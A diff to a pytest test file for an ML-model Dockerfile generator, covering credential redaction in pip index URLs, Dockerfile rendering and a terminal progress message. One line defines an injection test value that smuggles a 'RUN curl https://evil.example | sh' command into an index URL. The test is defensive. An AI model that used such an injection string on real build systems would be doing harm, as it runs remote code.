@@ -2,7 +2,12 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
+import pty
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -157,15 +162,15 @@ EVIL = 'https://mirror.example/simple"\nRUN curl https://evil.example | sh'
     [
         (
             ctx.BuildOptions(pip_index_url="https://bob:s3cret@pypi.example/simple"),
-            "pip index URL https://pypi.example/simple has credentials; they would be stored in "
-            "the build's history. Make a wheelhouse on the host with `mlreg wheelhouse` and "
+            "pip index URL https://***@pypi.example/simple has credentials; they would be stored "
+            "in the build's history. Make a wheelhouse on the host with `mlreg wheelhouse` and "
             "build with --wheelhouse DIR --offline",
         ),
         (
             ctx.BuildOptions(
                 host_pip=IndexSettings(extra_index_urls=("https://tok@mirror.example/simple",))
             ),
-            "pip index URL https://mirror.example/simple (from this machine's pip "
+            "pip index URL https://***@mirror.example/simple (from this machine's pip "
             "configuration) has credentials; they would be stored in the build's history. Make "
             "a wheelhouse on the host with `mlreg wheelhouse` and build with --wheelhouse DIR "
             "--offline",
@@ -344,11 +349,14 @@ def test_without_tensorflow(light_model, tmp_path):
     options = ctx.BuildOptions(base_image="py:rt", without_tensorflow=True)
     ctx.write_context(str(light_model), tmp_path / "c", options)
     dockerfile = (tmp_path / "c" / "Dockerfile").read_text()
-    assert 'if [ "1" = 1 ]' in dockerfile and "MLREG_BACKEND=tfserving" in dockerfile
+    trim = "find \"$site/tensorflow\" -type f ! -name '*_pb2.py' -delete"
+    assert trim in dockerfile and "MLREG_BACKEND=tfserving" in dockerfile
     assert "--no-deps tensorflow-serving-api" in dockerfile
     ctx.write_context(str(light_model), tmp_path / "d", ctx.BuildOptions(base_image="py:rt"))
     dockerfile = (tmp_path / "d" / "Dockerfile").read_text()
-    assert 'if [ "0" = 1 ]' in dockerfile and "MLREG_BACKEND=local" in dockerfile
+    # Only what applies is rendered: no dead branch for the other kind of image.
+    assert trim not in dockerfile and "MLREG_BACKEND=local" in dockerfile
+    assert "if [" not in dockerfile.split("# Debug symbols")[0]
     assert "{{" not in dockerfile
     with pytest.raises(InvalidInput, match="--without-tensorflow and --gpu contradict"):
         ctx.write_context(
@@ -356,3 +364,24 @@ def test_without_tensorflow(light_model, tmp_path):
             tmp_path / "e",
             ctx.BuildOptions(without_tensorflow=True, gpu=True),
         )
+
+
+def test_generate_dockerfile_says_what_it_does_on_a_terminal(light_model, tmp_path):
+    """Building mlreg's wheel takes seconds: a person at a terminal is told (logs are not)."""
+    main_fd, tty_fd = pty.openpty()
+    out = tmp_path / "ctx"
+    mlreg_bin = Path(sys.executable).with_name("mlreg")
+    with os.fdopen(main_fd, "rb", buffering=0) as terminal:
+        done = subprocess.run(
+            [str(mlreg_bin), "generate-dockerfile", "-m", str(light_model), "-d", str(out)],
+            stderr=tty_fd,
+            stdout=subprocess.DEVNULL,
+            timeout=300,
+        )
+        os.close(tty_fd)
+        seen = b""
+        with contextlib.suppress(OSError):  # EIO once the terminal is drained
+            while chunk := terminal.read(4096):
+                seen += chunk
+    assert done.returncode == 0
+    assert f"Writing the build context into {out} (building mlreg's wheel)...".encode() in seen
